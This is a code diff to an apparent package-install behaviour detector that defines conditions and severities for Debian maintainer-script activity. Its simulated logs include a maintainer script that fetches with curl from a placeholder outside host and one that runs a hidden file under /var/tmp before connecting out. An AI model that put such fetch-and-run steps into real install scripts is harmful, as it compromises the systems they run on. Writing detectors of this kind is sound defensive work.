@@ -99,21 +99,31 @@ const CONDITIONS: readonly Condition[] = [
     log: () => script((_, shell) => install(shell), DEB),
   },
   {
-    says: 'the installed program connects',
+    says: 'a program that ran here before connects',
     severity: 'low',
-    factors: ['only programs that the package installed connected'],
+    factors: ['only programs that were installed before connected'],
+    log: () =>
+      script((_, shell) => {
+        shell.run('/opt/label/bin/label');
+        install(shell).run('/opt/label/bin/label').connect(OUT, 443);
+      }, DEB),
+  },
+  {
+    says: 'a program of which nothing is known connects',
+    severity: 'medium',
+    factors: ['whether the package brought what connected is not recorded'],
     log: () => script((_, shell) => void install(shell).run('/opt/label/bin/label').connect(OUT, 443), DEB),
   },
   {
     says: 'the maintainer script fetches with an installed tool',
     severity: 'high',
-    never: ['only programs that the package installed connected', 'installed by the package manager'],
+    never: ['only programs that were installed before connected', 'installed by the package manager'],
     log: () => script((_, shell) => void install(shell).run(`/usr/bin/curl http://${OUT}/x`).connect(OUT, 80), DEB),
   },
   {
     says: 'the maintainer script starts what lies below /var/tmp',
     severity: 'high',
-    never: ['only programs that the package installed connected'],
+    never: ['only programs that were installed before connected'],
     log: () => script((_, shell) => void install(shell).run('/var/tmp/.x').connect(OUT, 443), DEB),
   },
   {
